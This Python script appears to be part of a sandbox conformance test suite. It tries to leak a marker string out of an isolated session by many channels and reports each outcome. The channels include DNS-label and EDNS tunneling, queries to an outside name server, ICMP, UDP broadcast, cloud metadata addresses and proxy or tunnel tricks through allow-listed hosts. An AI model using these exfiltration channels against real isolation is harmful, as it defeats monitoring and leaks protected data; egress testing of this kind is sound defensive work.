"""Try to get a mark out of a session, in all ways that a hostile program may think of; print how each ended.

    python3 leave.py FACTS

FACTS are JSON: `mark` is in all that must not get out, with the number of the attack; `kinds` of attacks that
are tried; `outside`, an address of a name server; `places`, by name, each a list of addresses with ports.
Whether a mark got out is seen elsewhere.
"""

import json
import socket
import sys
from collections.abc import Callable, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from typing import Any

sys.path.append("/wall")  # where the folder of the tests is in a session

from tests.conformance.attacks.leave_by_programs import PROGRAMS
from tests.conformance.attacks.leave_by_proxy import (
    CAPTURED,
    MODEL,
    MODEL_PORT,
    PROXY,
    PROXY_PORT,
    captured,
    hello,
    in_tunnel,
    sent,
    server_name,
    text,
    tunnel,
)

KINDS = ("name", "proxy", "captured", "model", "packet", "program")
PATIENCE = 6.0
DNS = ("127.0.0.1", 53)
A, MX, TXT, AAAA, SRV, HTTPS, ANY = 1, 15, 16, 28, 33, 65, 255

Attack = Callable[[str], object]


# By questions of names.


def question(
    mark: str, kind: int = A, *, name: str = "{}.example.test", flags: int = 0x0100, more: bytes = b""
) -> bytes:
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.format(mark).split("."))
    head = b"\x12\x34" + flags.to_bytes(2, "big") + b"\0\1\0\0\0\0" + (b"\0\1" if more else b"\0\0")
    return head + labels + b"\0" + kind.to_bytes(2, "big") + b"\0\1" + more


def by_udp(message: bytes, server: tuple[str, int] = DNS) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(PATIENCE)
        client.sendto(message, server)
        return client.recv(4096)


def by_tcp(message: bytes, server: tuple[str, int] = DNS) -> bytes:
    with socket.create_connection(server, PATIENCE) as client:
        client.sendall(len(message).to_bytes(2, "big") + message)
        return client.recv(4096)


RECORDS = {"A": A, "AAAA": AAAA, "TXT": TXT, "MX": MX, "SRV": SRV, "HTTPS": HTTPS, "ANY": ANY}


def asked(mark: str, kind: int = A, name: str = "{}.example.test", flags: int = 0x0100) -> bytes:
    return by_udp(question(mark, kind, name=name, flags=flags))


def with_option(mark: str) -> bytes:
    """Ask for an allowed name, with an option of EDNS, RFC 6891, that holds the mark."""
    option = b"\xfd\xe9" + len(mark).to_bytes(2, "big") + mark.encode()
    more = b"\0\0\x29\x10\0\0\0\0\0" + len(option).to_bytes(2, "big") + option
    return by_udp(question("git", more=more))


def looked_up(mark: str, name: str) -> object:
    return socket.getaddrinfo(name.format(mark), 80)


BELOW, LONG = "{}.git.example.test", f"{'a' * 63}.{'b' * 60}.{{}}.example.test"
NAMES: dict[str, Attack] = {
    **{f"a question for {name}": partial(asked, kind=kind) for name, kind in RECORDS.items()},
    "a question over TCP": lambda mark: by_tcp(question(mark, TXT)),
    "a question below an allowed name": partial(asked, name=BELOW),
    "a question of long labels": partial(asked, kind=TXT, name=LONG),
    "a question in capitals": lambda mark: asked(mark.upper(), name="{}.EXAMPLE.test"),
    "an option of EDNS": with_option,
    "an update of a zone": partial(asked, flags=0x2800),
    "the C library's resolver": partial(looked_up, name="{}.example.test"),
    "the C library's resolver, below an allowed name": partial(looked_up, name=BELOW),
}


# What is allowed, and names on the list that lead where nothing may.


def honest(mark: str) -> bytes:
    return hello(mark, server_name("git.example.test"))


ALLOWED: dict[str, Attack] = {
    "TLS to a name on the list": partial(captured, honest),
    "a tunnel to a name on the list": partial(in_tunnel, honest),
    "a tunnel of other bytes than TLS": tunnel("plain.example.test:8080"),
    "plain HTTP to a name on the list": text(PROXY_PORT, "GET http://git.example.test/MARK HTTP/1.1\r\n\r\n"),
    "a request of the model server": text(MODEL_PORT, "GET /local/v1/models?m=MARK HTTP/1.1\r\n\r\n"),
}
LED: dict[str, Attack] = {f"{number}": tunnel(f"never{number}.example.test:80") for number in range(16)}
TURNS: dict[str, Attack] = {f"{number}": tunnel("turns.example.test:80") for number in range(20)}


# By packets.


def connect(places: Sequence[tuple[str, int]], mark: str) -> str:
    return told(lambda host, port: sent((host, port), mark.encode()), places)


def send(places: Sequence[tuple[str, int]], mark: str) -> str:
    def one(host: str, port: int) -> object:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            return client.sendto(mark.encode(), (host, port))

    return told(one, places)


def told(one: Callable[[str, int], object], places: Sequence[tuple[str, int]]) -> str:
    """Try all places, and tell how each ended."""
    with ThreadPoolExecutor(8) as pool:
        ended = pool.map(lambda place: f"{place[0]}: {outcome(lambda _: one(*place), '')}", places)
    return "; ".join(ended)


def ping(host: str, mark: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as client:
        client.sendto(b"\x08\0\0\0\0\0\0\x01" + mark.encode(), (host, 0))


STREAMS = (
    "a server elsewhere", "the host, by each address", "a published port, by each address of the host",
    "what clouds tell a machine",
)  # fmt: skip
DATAGRAMS = (
    "a server elsewhere",
    "the host, by each address",
    "all neighbours at once",
    "what clouds tell a machine",
)


def by_packets(facts: Mapping[str, Any]) -> dict[str, Attack]:
    """Return the attacks on addresses."""
    places, outside = facts["places"], facts["outside"]
    return {
        **{f"a connection to {name}": partial(connect, places.get(name, ())) for name in STREAMS},
        **{f"a datagram to {name}": partial(send, places.get(name, ())) for name in DATAGRAMS},
        "a ping": partial(ping, outside),
        "a name server of its own": lambda mark: by_udp(question(mark, TXT), (outside, 53)),
        "a name server of its own, over TCP": lambda mark: by_tcp(question(mark, TXT), (outside, 53)),
        "the engine's name server": lambda mark: by_udp(question(mark), ("127.0.0.11", 53)),
        "the engine's name server, over TCP": lambda mark: by_tcp(question(mark), ("127.0.0.11", 53)),
    }


def outcome(attack: Attack, mark: str) -> str:
    try:
        return f"{attack(mark)!r}"[:700]
    except Exception as error:
        return f"{type(error).__name__}: {error}"[:700]


def attacks(facts: Mapping[str, Any]) -> dict[str, Attack]:
    """Return the attacks of the kinds that are asked for, by kind and name."""
    known: dict[str, Mapping[str, Attack]] = {
        "name": NAMES,
        "proxy": PROXY,
        "captured": CAPTURED,
        "model": MODEL,
        "packet": by_packets(facts),
        "program": PROGRAMS,
        "allowed": ALLOWED,
        "led": LED,
        "turns": TURNS,
    }
    return {f"{kind}, {name}": attack for kind in facts["kinds"] for name, attack in known[kind].items()}


# All their names.
ATTACKS = tuple(attacks({"kinds": KINDS, "places": {}, "outside": ""}))


def main() -> None:
    facts = json.loads(sys.argv[1])
    with ThreadPoolExecutor(12) as pool:
        running = {
            name: (mark := f"{facts['mark']}{number:03d}x", pool.submit(outcome, attack, mark))
            for number, (name, attack) in enumerate(attacks(facts).items())
        }
        print(json.dumps({name: [mark, result.result()] for name, (mark, result) in running.items()}))


if __name__ == "__main__":
    main()
